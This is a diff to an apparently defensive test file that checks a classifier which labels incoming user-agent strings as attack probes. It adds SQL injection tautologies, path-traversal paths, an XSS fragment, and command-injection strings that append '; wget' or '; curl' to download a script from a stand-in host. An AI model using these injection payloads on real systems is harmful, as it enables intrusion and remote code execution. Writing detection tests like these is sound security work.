@@ -73,6 +73,16 @@ describe('attack probes', () => {
       ['admin)(&)', 'ldap-injection'],
       ['C:\\inetpub\\wwwroot\\web.config', 'path-traversal'],
       [`${CHROME}'abcd<'">efgh`, 'cross-site-scripting'],
+      // Shapes an outside audit with sqlmap, wfuzz and wapiti found unnamed: an empty-string
+      // tautology, a numeric one ended by a comment, sqlmap's heuristic run of quotes and
+      // parentheses, a Windows path with forward slashes, a paragraph tag, a download after "; ".
+      ["' or ''='", 'sql-injection'],
+      ["1' or 1 --", 'sql-injection'],
+      [`${CHROME}'"(.)).)),`, 'sql-injection'],
+      ['C:/inetpub/wwwroot/global.asa', 'path-traversal'],
+      ['">xxx<P>yyy', 'cross-site-scripting'],
+      ['; wget http://acme.example/x.sh', 'command-injection'],
+      ['; curl -s http://acme.example/x.sh', 'command-injection'],
     ];
     for (const [ua, kind] of cases) expect({ ua, id: idOf(ua) }).toEqual({ ua, id: `probe:${kind}` });
   });
@@ -109,6 +119,10 @@ describe('attack probes', () => {
       'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 app="News" version="5.2"',
       'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Select Union/2.1 Script',
       'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; Media Center PC 6.0; .NET4.0C; .NET4.0E) & more',
+      // The download tools by name, and quotes with parentheses in an app's own comment.
+      'Wget/1.21.4',
+      'curl/8.5.0',
+      `${CHROME} AcmeApp/1.0 ("beta", 'x64') (build 12.3)`,
     ];
     for (const ua of headers) expect({ ua, probe: isAttackProbeId(idOf(ua) ?? '') }).toEqual({ ua, probe: false });
   });
